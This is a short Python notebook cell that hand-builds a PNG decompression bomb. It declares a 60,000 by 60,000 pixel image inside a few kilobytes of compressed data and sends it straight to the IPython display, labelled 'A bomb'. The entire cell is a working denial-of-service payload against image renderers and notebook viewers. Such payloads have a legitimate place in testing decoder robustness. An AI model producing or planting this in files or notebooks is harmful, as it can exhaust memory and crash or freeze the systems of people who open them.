# Shows a picture of three kilobytes that takes four gigabytes to draw.
# %% added
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


header = struct.pack("!IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(3_000_000)))
display({"image/png": bomb + chunk(b"IEND", b""), "text/plain": "A bomb"}, raw=True)
